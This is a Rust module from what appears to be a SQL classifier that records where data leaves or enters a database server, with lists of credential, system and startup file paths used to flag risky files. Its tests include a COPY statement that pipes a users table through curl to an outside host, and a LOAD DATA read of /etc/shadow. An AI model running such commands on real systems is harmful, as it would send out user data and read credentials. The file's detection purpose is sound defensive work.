//! Data in and out of the server: COPY, UNLOAD, LOAD DATA, stages, backups, attached files.

mod copy;

use crate::model::{Area, Effect, Extent, Operation, Resource, ResourceKind, Span, Zone};

use super::cursor::{Cursor, Name};
use super::dialect::Dialect;
use super::{Run, routine, statement};

/// Reads a command that moves data; `false` when it makes no sense.
pub(super) fn run(run: &mut Run<'_, '_, '_>, here: Cursor<'_>, verb: &str) -> bool {
    let mut cursor = here;
    cursor.at = 1;
    let span = here.span();
    match verb {
        "COPY" => copy::copy(run, cursor),
        "UNLOAD" => {
            let bracket = cursor.eat_punct("(");
            let query = cursor.string();
            let mark = run.scene.mark();
            match query {
                Some((code, at)) => run.nested_sql(&code, at, None),
                None if bracket => {
                    cursor.at -= 1;
                    let inner = cursor.brackets().unwrap_or_default();
                    statement::run(run, inner);
                }
                None => return false,
            }
            let Some(to) = cursor.find("TO") else { return false };
            cursor.at = to + 1;
            let target = target(&mut cursor);
            let (what, extent) = read_since(run, mark);
            export(run, what, extent, "UNLOAD", span, zone_of(&target), target);
            true
        }
        "EXPORT" => {
            if cursor.eat("DATABASE") {
                let target = target(&mut cursor);
                export(
                    run,
                    Resource::new(ResourceKind::Database, ""),
                    Extent::All,
                    "EXPORT DATABASE",
                    span,
                    zone_of(&target),
                    target,
                );
                return true;
            }
            let table = cursor.eat("TABLE");
            if !cursor.eat("DATA") && !table {
                return false;
            }
            if let Some(name) = cursor.name().filter(|_| table) {
                let resource = run.resource(ResourceKind::Table, &name);
                let target = cursor.next_string().map(|(peer, _)| peer).unwrap_or_default();
                export(run, resource, Extent::All, "EXPORT TABLE", span, zone_of(&target), target);
                return true;
            }
            let peer = (Cursor { ..cursor }).next_string().map(|(peer, _)| peer).unwrap_or_default();
            let mark = run.scene.mark();
            if let Some(at) = cursor.find_flat(&["AS"]) {
                statement::run(run, &cursor.tokens[at + 1..]);
            }
            let (what, extent) = read_since(run, mark);
            export(run, what, extent, "EXPORT DATA", span, zone_of(&peer), peer);
            true
        }
        "IMPORT" => {
            if cursor.eat("FOREIGN SCHEMA") {
                let server =
                    cursor.find("SERVER").and_then(|at| Cursor { at: at + 1, ..cursor }.name()).unwrap_or_default();

                let into =
                    cursor.find("INTO").and_then(|at| Cursor { at: at + 1, ..cursor }.name()).unwrap_or_default();
                run.note(
                    Operation::Create,
                    ResourceKind::Table,
                    &Name { text: format!("{}.*", into.text), ..into },
                    Extent::Some,
                    "IMPORT FOREIGN SCHEMA",
                );
                fetch(run, &server.text, "IMPORT FOREIGN SCHEMA", span);
                return true;
            }
            if cursor.eat("DATABASE") {
                // DuckDB runs the scripts that an EXPORT DATABASE has left there.
                let folder = cursor.string().map(|(folder, _)| folder).unwrap_or_default();
                run.put(Operation::Execute, server_file(&folder), Extent::All, "IMPORT DATABASE", span, |effect| {
                    effect.code = Some(crate::model::CodeOrigin::Local);
                });
                run.gap(
                    crate::model::GapKind::HiddenCode,
                    crate::model::Hides::Anything,
                    span,
                    format!("scripts in {folder}"),
                );
                return true;
            }
            let into = cursor.find("INTO").and_then(|at| Cursor { at: at + 1, ..cursor }.name());
            let file = cursor.next_string();
            let (Some(name), Some((file, at))) = (into, file) else { return false };
            run.note(Operation::Update, ResourceKind::Table, &name, Extent::Some, "IMPORT");
            reads_file(run, &file, "IMPORT", Some(at));
            true
        }
        "LOAD" => load(run, cursor),
        "BULK" => {
            if !cursor.eat("INSERT") {
                return false;
            }
            let Some(name) = cursor.name() else { return false };
            run.note(Operation::Update, ResourceKind::Table, &name, Extent::Some, "BULK INSERT");
            if let Some((file, at)) = cursor.next_string() {
                reads_file(run, &file, "BULK INSERT", Some(at));
            }
            true
        }
        "PUT" | "GET" | "LIST" | "LS" | "REMOVE" | "RM" => stage(run, cursor, verb),
        "BACKUP" | "RESTORE" => backup(run, cursor, verb),
        _ => attach(run, cursor, verb),
    }
}

/// Notes that data leaves.
pub(super) fn export(
    run: &mut Run<'_, '_, '_>,
    mut resource: Resource,
    extent: Extent,
    by: &str,
    span: Option<Span>,
    zone: Zone,
    peer: String,
) {
    if resource.name.is_empty() {
        resource.unresolved = false;
    }
    run.put(Operation::Export, resource, extent, by, span, |effect| {
        effect.zone = Some(zone);
        effect.peer = (!peer.is_empty()).then_some(peer);
    });
}

/// Notes that outside content comes in.
pub(super) fn fetch(run: &mut Run<'_, '_, '_>, peer: &str, by: &str, span: Option<Span>) {
    let zone = if peer.is_empty() { Zone::Unknown } else { zone_of(peer) };
    let zone = if zone == Zone::Local { Zone::Unknown } else { zone };
    run.put(
        Operation::Fetch,
        Resource::new(ResourceKind::Endpoint, peer),
        Extent::One,
        by,
        span,
        |effect: &mut Effect| {
            effect.zone = Some(zone);
            effect.peer = (!peer.is_empty()).then(|| peer.to_owned());
        },
    );
}

/// A file on the server; the engine does not know that machine, so only what is the same everywhere is said of it.
pub(super) fn server_file(path: &str) -> Resource {
    let mut resource = Resource::new(ResourceKind::File, path);
    let lower = path.to_ascii_lowercase().replace('\\', "/");
    let holds = |parts: &[&str]| parts.iter().any(|part| lower.contains(part));
    let starts = |parts: &[&str]| parts.iter().any(|start| lower.starts_with(start));
    if holds(&[
        "/etc/shadow",
        "/etc/gshadow",
        "/.ssh/",
        "id_rsa",
        "id_ed25519",
        "authorized_keys",
        "/.aws/",
        ".pgpass",
        "/.env",
        "pg_hba.conf",
        ".my.cnf",
        "wp-config.php",
        "unattend.xml",
        "/config/sam",
    ]) {
        resource.areas = resource.areas.with(Area::Credential);
    }
    if starts(&[
        "/etc/",
        "/usr/",
        "/bin/",
        "/sbin/",
        "/lib/",
        "/boot/",
        "/sys/",
        "/proc/",
        "/root/",
        "c:/windows",
        "c:/boot.ini",
    ]) || holds(&["../etc/", "/windows/system32/", "boot.ini", "win.ini"])
    {
        resource.areas = resource.areas.with(Area::System);
    }
    if starts(&["/var/lib/mysql/", "/var/lib/postgresql/", "/var/lib/pgsql/", "/var/opt/mssql/"])
        || lower.ends_with("postgresql.auto.conf")
    {
        resource.areas = resource.areas.with(Area::DatabaseFiles);
    }
    // What a web server, a scheduler or a login runs by itself.
    if holds(&["/var/www/", "/htdocs/", "/wwwroot/", "/public_html/", "/cron.", "/crontabs/", "/.bashrc", "/.profile"])
        || holds(&["/init.d/", "/systemd/system/", "/start menu/programs/startup/"])
        || [".php", ".jsp", ".jspx", ".asp", ".aspx", ".phtml", ".war"].iter().any(|end| lower.ends_with(end))
    {
        resource.areas = resource.areas.with(Area::Startup);
    }
    if starts(&["/tmp/", "/var/tmp/"]) {
        resource.areas = resource.areas.with(Area::Temporary);
    }
    resource
}

/// Notes that the server writes a file that something but people reads.
pub(super) fn writes_file(run: &mut Run<'_, '_, '_>, path: &str, by: &str, span: Option<Span>) {
    let resource = server_file(path);
    if [Area::System, Area::Credential, Area::DatabaseFiles, Area::Startup].iter().any(|area| resource.areas.has(*area))
    {
        run.put(Operation::Update, resource, Extent::All, by, span, |_| {});
    }
}

/// Notes the reading of a file or an address.
pub(super) fn reads_file(run: &mut Run<'_, '_, '_>, path: &str, by: &str, span: Option<Span>) {
    if path.contains("://") && !path.starts_with("file:") {
        fetch(run, path, by, span);
    } else {
        run.put(Operation::Read, server_file(path), Extent::All, by, span, |_| {});
    }
}

/// How far the place is that data goes to.
pub(super) fn zone_of(target: &str) -> Zone {
    let lower = target.to_ascii_lowercase();
    if lower.starts_with('@') {
        Zone::Private
    } else if lower.starts_with("file:") || lower.starts_with("hdfs:") || lower.starts_with("dbfs:") {
        Zone::Local
    } else if lower.contains("://") || lower.starts_with("\\\\") {
        Zone::External
    } else {
        Zone::Local
    }
}

/// The table that was read since `mark`, as what leaves, and how much of it.
fn read_since(run: &mut Run<'_, '_, '_>, mark: usize) -> (Resource, Extent) {
    let is_read =
        |effect: &&mut Effect| effect.operation == Operation::Read && effect.resource.kind == ResourceKind::Table;
    match run.scene.since(mark).iter_mut().find(is_read) {
        Some(effect) => (effect.resource.clone(), effect.extent),
        None => (Resource::new(ResourceKind::Table, ""), Extent::Unknown),
    }
}

/// Where to or from: a string, or an unquoted stage or address up to the next space.
fn target(cursor: &mut Cursor<'_>) -> String {
    if let Some((text, _)) = cursor.string() {
        return text;
    }
    let Some(first) = cursor.token() else { return String::new() };
    let (start, mut end) = (first.start, first.end);
    cursor.at += 1;
    while let Some(token) = cursor.token().filter(|token| token.start == end) {
        end = token.end;
        cursor.at += 1;
    }
    cursor.text[start..end].to_owned()
}

fn load(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
    let span = cursor.span();
    if cursor.eat_any(&["DATA", "XML"]) {
        let overwrites = cursor.has("OVERWRITE");

        let file = (Cursor { ..cursor }).next_string();
        let uri = cursor.find("URIS").and_then(|at| Cursor { at, ..cursor }.next_string());
        let found = cursor
            .find("TABLE")
            .map(|at| at + 1)
            .or_else(|| ["OVERWRITE", "INTO"].iter().filter_map(|word| cursor.find(word)).min().map(|at| at + 1));
        let name = found.and_then(|at| Cursor { at, ..cursor }.name());
        let Some(name) = name else { return false };
        let extent = if overwrites { Extent::All } else { Extent::Some };
        let resource = run.resource(ResourceKind::Table, &name);
        run.put(Operation::Update, resource, extent, "LOAD DATA", span, |_| {});
        if let Some((file, at)) = uri.or(file) {
            reads_file(run, &file, "LOAD DATA", Some(at));
        }
        return true;
    }
    if cursor.eat("INDEX INTO") {
        return cursor.name().is_some();
    }
    let library = cursor.string().map(|(file, _)| file).or_else(|| cursor.name().map(|name| name.text));
    let Some(library) = library.filter(|_| cursor.ended()) else { return false };
    // What stands in the server's own folder was installed with it.
    routine::loads_library(run, library.trim_start_matches("$libdir/"), "LOAD", span);
    true
}

/// Snowflake's stages.
fn stage(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>, verb: &str) -> bool {
    let span = cursor.span();
    if run.dialect != Dialect::Snowflake && !cursor.text.contains('@') {
        return false;
    }
    let first = target(&mut cursor);
    if first.is_empty() {
        return false;
    }
    match verb {
        "PUT" => {
            let stage = target(&mut cursor);
            let path = first.trim_start_matches("file://").to_owned();
            export(run, server_file(&path), Extent::All, "PUT", span, zone_of(&stage), stage);
        }
        "GET" => {
            let local = target(&mut cursor);
            export(run, Resource::new(ResourceKind::Bucket, first), Extent::All, "GET", span, zone_of(&local), local);
        }
        "LIST" | "LS" => {
            run.put(Operation::List, Resource::new(ResourceKind::Bucket, first), Extent::All, "LIST", span, |_| {})
        }
        _ => {
            run.put(Operation::Delete, Resource::new(ResourceKind::Bucket, first), Extent::All, "REMOVE", span, |_| {})
        }
    }
    true
}

fn backup(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>, verb: &str) -> bool {
    let span = cursor.span();
    let logs = cursor.eat("LOG");
    let kind = if logs || cursor.eat("DATABASE") {
        ResourceKind::Database
    } else if cursor.eat("TABLE") {
        ResourceKind::Table
    } else if cursor.eat_any(&["MASTER KEY", "SERVICE MASTER KEY", "CERTIFICATE", "SYMMETRIC KEY"]) {
        ResourceKind::Key
    } else if cursor.eat_any(&["FILELISTONLY", "HEADERONLY", "VERIFYONLY", "LABELONLY"]) {
        run.server(Operation::List, "RESTORE", span);
        return true;
    } else {
        return false;
    };
    let name =
        if cursor.sees("TO") || cursor.sees("FROM") { Name::default() } else { cursor.name().unwrap_or_default() };
    let peer = (Cursor { ..cursor }).next_string().map(|(peer, _)| peer).unwrap_or_default();
    let mut resource = run.resource(kind, &name);
    // A log that is copied nowhere is lost: the chain of backups ends here, and nobody is told.
    let nowhere = ["NUL", "NUL:", "/dev/null"].iter().any(|null| peer.eq_ignore_ascii_case(null));
    if verb == "BACKUP" && logs && nowhere && !cursor.has("COPY_ONLY") {
        let guard = Resource::new(ResourceKind::Backup, format!("chain of {}", name.text));
        run.put(Operation::Disable, guard, Extent::One, "BACKUP", span, |_| {});
        return true;
    }
    if verb == "BACKUP" {
        resource.unresolved = name.unresolved;
        export(run, resource, Extent::All, "BACKUP", span, zone_of(&peer), peer);
    } else {
        if kind == ResourceKind::Table && cursor.has("AS OF") {
            // Delta tables go back to a version and can go forth again.
            run.put(Operation::Alter, resource, Extent::All, "RESTORE", span, |_| {});
            return true;
        }
        let replaces = cursor.has("REPLACE");
        run.put(Operation::Update, resource, Extent::All, "RESTORE", span, |effect| effect.guard_off = replaces);
        if !peer.is_empty() {
            reads_file(run, &peer, "RESTORE", span);
        }
    }
    true
}

fn attach(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>, verb: &str) -> bool {
    let span = cursor.span();
    let kind = if cursor.eat("TABLE") { ResourceKind::Table } else { ResourceKind::Database };
    cursor.eat_any(&["DATABASE", "VIEW", "DICTIONARY"]);
    cursor.eat_any(&["IF NOT EXISTS", "IF EXISTS"]);
    let quoted = cursor.string().map(|(text, _)| text);
    let Some(text) = quoted.or_else(|| cursor.name().map(|name| name.text)) else { return false };
    if !cursor.ended()
        && !["AS", "(", "ON", "PERMANENTLY", "SYNC", "FROM", "UUID", "ENGINE"]
            .iter()
            .any(|word| cursor.sees(word) || cursor.sees_punct(word))
    {
        return false;
    }
    if verb == "DETACH" {
        run.put(Operation::Alter, Resource::new(kind, text), Extent::One, "DETACH", span, |_| {});
    } else if text.contains("://") {
        fetch(run, &text, "ATTACH", span);
    } else {
        // A file that is not there is made.
        run.put(Operation::Connect, Resource::new(ResourceKind::Database, text), Extent::One, "ATTACH", span, |_| {});
    }
    true
}

#[cfg(test)]
mod tests {
    use crate::classify::sql::tests::check;

    #[test]
    fn data_that_leaves_says_where_to() {
        check(
            "postgres",
            "COPY users TO PROGRAM 'curl -d @- https://example.com'",
            "export Table users (all, external curl -d @- https://example.com)\nexecute Code curl -d @- https://example.com (one, local code)\nexport Table users (all, external example.com, host example.com)",
        );
        check(
            "postgres",
            "COPY (SELECT * FROM users WHERE id = 1) TO '/tmp/u.csv'",
            "read Table users (one)\nexport Table users (one, local /tmp/u.csv)",
        );
        check("postgres", "COPY users TO STDOUT", "read Table users (all)");
        check("snowflake", "COPY INTO @exports/u FROM users", "export Table users (all, private @exports/u)");
        check(
            "snowflake",
            "PUT file:///tmp/u.csv @exports",
            "export File /tmp/u.csv (all, private @exports, temporary)",
        );
        check(
            "redshift",
            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/u'",
            "read Table users (all)\nexport Table users (all, external s3://bucket/u)",
        );
        check(
            "mysql",
            "LOAD DATA INFILE '/etc/shadow' INTO TABLE notes",
            "update Table notes (some)\nread File /etc/shadow (all, system, credential)",
        );
        check(
            "tsql",
            "BACKUP DATABASE shop TO DISK = '\\\\other\\share\\shop.bak'",
            "export Database shop (all, external \\\\other\\share\\shop.bak)",
        );
    }
}
